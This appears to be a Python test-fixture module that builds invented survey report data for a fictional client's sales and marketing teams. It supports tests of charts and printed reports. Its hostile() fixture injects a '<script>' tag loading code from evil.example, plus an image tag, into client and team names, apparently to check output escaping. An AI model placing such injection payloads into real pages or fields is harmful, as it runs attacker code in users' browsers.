"""Facts written by hand, for tests of what is drawn and printed: no number here was ever measured.

`core` is a third wave with coarse items and one withheld row; `full` has five answer classes; `scales_only`, `pulse`
and `from_file` are the other shapes a report takes; `hostile` carries names that would like to run.
"""

from __future__ import annotations

from functools import cache

import sample_said
from sample_rows import (
    ITEMS,
    SIDES,
    Figures,
    ballots_row,
    brief_rows,
    change_rows,
    gap,
    gaps_rows,
    item_row,
    items_rows,
    mirror_rows,
    participation_rows,
    percent,
    points,
    standing_rows,
)

from assess.advice import load as plays
from assess.advice.model import FixedText, Play
from assess.disclosure.policy import Policy
from assess.i18n import typeset
from assess.instruments import load, words
from assess.reports.facts import (
    BandedFigure,
    Client,
    Facts,
    Recommendation,
    Row,
    SideFacts,
    Words,
    seal,
)
from assess.surveys import promise

LOCALES = ("en", "fr-CA")
ADVISED = ("P4", "P6", "P17", "I3")


@cache
def vocabulary() -> dict[str, Words]:
    """The words of the shipped instrument, and of three plays, in both languages."""
    instrument = load.shipped("sales-marketing")
    playbook = plays.shipped("sales-marketing")
    assert playbook is not None
    found = {}
    for locale in LOCALES:
        texts = instrument.texts[locale]
        items = {
            code: {"short": words.short(instrument, code, locale)}
            | {side: words.filled(instrument, code, locale, side) for side in SIDES}
            for code in instrument.items
        }
        scales = {
            id_: {"name": text.name, "explanation": text.explanation.replace("'", "’")}
            | ({"high": "bad"} if id_ == "FRI" else {})
            for id_, text in texts.scales.items()
        }
        found[locale] = Words(
            instrument=texts.name,
            anchors=texts.anchors,
            items=items,
            scales=scales,
            plays={id_: _play(play, locale) for id_, play in playbook.plays.items() if id_ in ADVISED},
            fixed={key.value: typeset(text, locale) for key, text in playbook.fixed[locale].items()},
            unvalidated=texts.unvalidated.replace("'", "’"),
        )
    return found


def _play(play: Play, locale: str) -> dict[str, str]:
    """A play's own words, as compose keeps them."""
    text = play.texts[locale]
    words_ = {name: getattr(text, name) for name in ("title", "why", "what", "d30", "d60", "d90", "watch", "share")}
    words_ |= {"gains": text.gains, "pays": text.pays, "sources": "; ".join(source.cite for source in play.sources)}
    return {name: typeset(text, locale) for name, text in words_.items() if text} | (
        {} if text.d60 else {"d60": typeset(plays_d60(locale), locale)}
    )


def plays_d60(locale: str) -> str:
    """What an incentive play without its own second step says."""
    playbook = plays.shipped("sales-marketing")
    assert playbook is not None
    return playbook.fixed[locale][FixedText.SHADOW_D60]


def core() -> Facts:
    """A third core wave: 34 and 14 invited, items in their coarse class, one scale withheld."""
    figures: Figures = {}
    rows = {
        "standing": standing_rows(figures),
        "gaps": gaps_rows(figures),
        "participation": participation_rows(figures),
        "mirror": mirror_rows(figures),
        "change": change_rows(figures),
        "brief": brief_rows(figures),
    }
    items = {scale: items_rows(figures, scale) for scale in ITEMS}
    return _facts(figures, rows, items, form="core")


def full() -> Facts:
    """The same wave with both sides at 30 and more: five classes, own intervals everywhere."""
    facts = core()
    figures: Figures = dict(facts.figures)
    blocks = []
    for block in facts.blocks:
        if block.scale is None:
            blocks.append(block)
            continue
        rows = []
        for at, row in enumerate(block.rows):
            roles = dict(row.figures)
            for index, side in enumerate(SIDES):
                shares = ((8, 22, 20, 34, 16), (18, 30, 24, 20, 8), (30, 26, 20, 15, 9))[(at + index) % 3]
                for level, value in enumerate(shares, start=1):
                    id_ = f"{block.id}.{row.subject}.level_{level}.{side}"
                    figures[id_] = percent(value)
                    roles[f"level_{level}_{side}"] = id_
            rows.append(row.model_copy(update={"figures": roles}))
        blocks.append(block.model_copy(update={"rows": tuple(rows)}))
    return seal(facts.model_copy(update={"figures": figures, "blocks": tuple(blocks)}))


def scales_only() -> Facts:
    """5 to 9 answers on the smaller side, first wave: no items, coded means, the mirror scale alone."""
    figures: Figures = {}
    standing = []
    for scale, values in {"TRU": (62, 58), "ALN": (41, 44), "FRI": (52, 57)}.items():
        ids = {side: f"standing.{scale}.mean.{side}" for side in SIDES}
        for side, value in zip(SIDES, values, strict=True):
            figures[ids[side]] = points(value)
        figures[f"standing.{scale}.mean.company"] = points(sum(values) // 2)
        ids["company"] = f"standing.{scale}.mean.company"
        standing.append(Row(subject=scale, figures=ids, band={"company": ("watch",)}))
    figures["standing.ALN.mean.sales"] = BandedFigure(code="le5", unit="points")
    gaps = []
    for scale, figure in {
        "H": gap(4, -14, 22, 7),
        "TRU": gap(4, -16, 24, 7),
        "ALN": gap(-3, -20, 14, 7),
        "FRI": gap(-5, -22, 12, 7),
    }.items():
        figures[f"gaps.{scale}.gap.difference"] = figure
        roles = {"gap": f"gaps.{scale}.gap.difference"}
        if scale == "H":
            for side, value in zip(SIDES, (50, 46), strict=True):
                figures[f"standing.H.mean.{side}"] = points(value)
            figures["standing.H.mean.company"] = points(48, 38, 58)
        roles |= {side: f"standing.{scale}.mean.{side}" for side in SIDES}
        gaps.append(Row(subject=scale, figures=roles, group="headline" if scale != "H" else "exploratory"))
    for side, (expected, answered) in {"sales": (40, 55), "marketing": (44, 52)}.items():
        other = SIDES[1 - SIDES.index(side)]
        figures[f"mirror.MIR.expected.{side}"] = points(expected)
        figures[f"mirror.MIR.answered.{side}"] = points(answered)
        figures[f"mirror.MIR.error.{side}_to_{other}"] = gap(expected - answered, -30, 2, 6, family="mirror")
    mirror = Row(
        subject="MIR",
        figures={f"expected_{s}": f"mirror.MIR.expected.{s}" for s in SIDES}
        | {f"answered_{s}": f"mirror.MIR.answered.{s}" for s in SIDES}
        | {f"error_{s}": f"mirror.MIR.error.{s}_to_{SIDES[1 - SIDES.index(s)]}" for s in SIDES},
    )
    participation = participation_rows(figures, sizes=((9, 7), (8, 6)), waves=0)
    rows = {
        "standing": tuple(standing),
        "gaps": tuple(gaps),
        "participation": participation,
        "mirror": (mirror,),
        "brief": (
            Row(subject="H", figures={"company": "standing.H.mean.company"}, band={"company": ("act", "watch")}),
            gaps[1],
            ballots_row(figures),
        ),
        "change": (),
    }
    return _facts(figures, rows, {}, form="core", waves=1)


def pulse() -> Facts:
    """A pulse wave: the pulse index takes the place of the scales, one item page."""
    figures: Figures = {}
    for side, value in zip(SIDES, (55, 48), strict=True):
        figures[f"standing.PUL.mean.{side}"] = points(value, value - 6, value + 6)
    figures["standing.PUL.mean.company"] = points(52, 48, 56)
    figures["gaps.PUL.gap.difference"] = gap(7, -1, 15, 7, family_size=1)
    sides = {side: f"standing.PUL.mean.{side}" for side in SIDES}
    standing = Row(
        subject="PUL", figures=sides | {"company": "standing.PUL.mean.company"}, band={"company": ("watch",)}
    )
    gaps = Row(subject="PUL", figures=sides | {"gap": "gaps.PUL.gap.difference"}, group="headline")
    items = tuple(
        item_row(figures, "items-PUL", code, means=means, shares=shares, difference=difference)
        for code, means, shares, difference in (
            ("AL3", (52, 46), (38, 33), gap(5, -10, 20, 7, margin="12.5", family="exploratory")),
            ("AL1", (70, 68), (72, 67), gap(0, -10, 10, 5, margin="12.5", family="exploratory")),
        )
    )
    rows = {
        "standing": (standing,),
        "gaps": (gaps,),
        "participation": participation_rows(figures, waves=0),
        "mirror": (),
        "change": (),
        "brief": (
            Row(subject="PUL", figures={"company": "standing.PUL.mean.company"}, band={"company": ("watch",)}),
            gaps,
            ballots_row(figures),
        ),
    }
    return _facts(figures, rows, {"PUL": items}, form="pulse", waves=1)


def from_file() -> Facts:
    """`assess score` of a client's file: no box, no root, no promise, no headcount."""
    facts = core()
    provenance = dict(facts.provenance)
    provenance |= {"box": None, "merkle_root": None, "promise": None, "release_sha256": None}
    provenance["wave"] = {
        "number": 1,
        "label": "survey-2002",
        "opened_on": None,
        "closed_on": None,
        "released_on": None,
        "zone": "UTC",
        "source": "file",
    }
    provenance["series"] = [{"number": 1, "label": "survey-2002", "released_on": None}]
    kept = tuple(block for block in facts.blocks if block.id not in ("change", "mirror", "process", "options"))
    said = tuple(
        each.model_copy(update={"code": "anonymity.file"}) if each.id == "anonymity.lead" else each
        for each in facts.findings
    )
    return seal(
        facts.model_copy(update={"provenance": provenance, "blocks": kept, "findings": said, "recommendations": ()})
    )


def hostile(name: str = "<script src=http://evil.example/x.js></script>") -> Facts:
    """A client and sides whose names would like to run, fetch or break out of their place."""
    facts = core()
    sides = tuple(
        side.model_copy(update={"short": dict.fromkeys(LOCALES, f"{name}{side.letter}")}) for side in facts.client.sides
    )
    client = facts.client.model_copy(update={"name": f"{name}<img src=http://evil.example/y.png>", "sides": sides})
    return seal(facts.model_copy(update={"client": client}))


def _facts(
    figures: Figures, rows: dict[str, tuple[Row, ...]], items: dict[str, tuple[Row, ...]], *, form: str, waves: int = 3
) -> Facts:
    figures["brief.detectable.gap.difference"] = points(22)
    blocks, findings = sample_said.blocks(rows, items, figures, waves)
    labels = ("2026-Q1", "2026-Q2", "2026-Q3")[3 - waves :]
    series = [
        {"number": number, "label": label, "released_on": f"2026-{3 * number:02}-10"}
        for number, label in enumerate(labels, start=1)
    ]
    return seal(
        Facts(
            provenance={
                "versions": {"assess": "0.1.0", "numpy": "2.4.6", "scipy": "1.17.1", "facts": "1.0"},
                "instrument": {
                    "slug": "sales-marketing",
                    "version": "0.1.0",
                    "status": "unvalidated",
                    "form": form,
                    "sha256": "6b" * 32,
                },
                "playbook": {"version": "0.1.0", "sha256": "7c" * 32},
                "policy": {
                    "floor_scale": 5,
                    "floor_item": 10,
                    "floor_comments": 10,
                    "key_mode": "service",
                    "operator": "assess",
                    "promise_sha256": "8d" * 32,
                    "margin_scale": "10",
                    "margin_item": "12.5",
                    "families": {"headline": 3, "exploratory": 22, "mirror": 20},
                },
                "wave": {
                    "number": waves,
                    "label": labels[-1],
                    "opened_on": "2026-07-13",
                    "closed_on": "2026-07-24",
                    "released_on": "2026-08-11",
                    "zone": "America/Toronto",
                    "source": "wave",
                },
                "series": series,
                "prereg": "9e" * 32,
                "release_sha256": "af" * 32,
                "box": {"invited": 48, "used": 41, "replaced": 2, "spoiled": 0, "counted": 41},
                "merkle_root": "b0" * 32,
                "seed": "12345678901234567890",
                "estimand": {"code": "A", "why": None},
                "half_silent": [],
                "withheld": 7,
                "paper": "letter",
                "promise": {locale: promise.sentences("service", locale, Policy()) for locale in LOCALES},
            },
            client=Client(
                name="Northbeam Instruments",
                sides=(
                    SideFacts(
                        code="sales",
                        letter="S",
                        label={"en": "the Sales team", "fr-CA": "l’équipe des ventes"},
                        short={"en": "Sales", "fr-CA": "Ventes"},
                    ),
                    SideFacts(
                        code="marketing",
                        letter="M",
                        label={"en": "the Marketing team", "fr-CA": "l’équipe du marketing"},
                        short={"en": "Marketing", "fr-CA": "Marketing"},
                    ),
                ),
                zone="America/Toronto",
                country="CA",
            ),
            vocabulary=vocabulary(),
            figures=figures,
            blocks=blocks,
            findings=findings,
            recommendations=RECOMMENDATIONS if waves == 3 else (),
        )
    )


RECOMMENDATIONS = (
    Recommendation(
        play="P4",
        kind="process",
        status="recommended",
        rank=1,
        why=("items-ALN.AL1.mean.sales", "items-ALN.AL1.mean.marketing"),
        why_subjects=("AL1",),
        owner="GM",
        cost="S",
        evidence="A",
        indicators=({"kind": "item", "subject": "AL1", "who": "C", "movement": "rise", "low": "12", "high": "12"},),
    ),
    Recommendation(
        play="P6",
        kind="process",
        status="recommended",
        rank=2,
        why=("items-FRI.FR1.mean.sales", "items-FRI.FR1.mean.marketing"),
        why_subjects=("FR1",),
        owner="SO",
        cost="S",
        evidence="A",
        indicators=(
            {"kind": "item", "subject": "FR1", "who": "C", "movement": "rise", "low": "10", "high": "10"},
            {"kind": "item", "subject": "TR1", "who": "C", "movement": "rise", "low": "5", "high": "5"},
        ),
    ),
    Recommendation(play="P17", kind="process", status="considered", rank=3),
    Recommendation(
        play="I3",
        kind="incentive",
        status="recommended",
        rank=1,
        why=("items-ALN.AL1.mean.sales",),
        why_subjects=("AL1",),
        owner="GM",
        evidence="B",
        indicators=({"kind": "scale", "subject": "ALN", "who": "C", "movement": "rise", "low": "6", "high": "6"},),
    ),
)
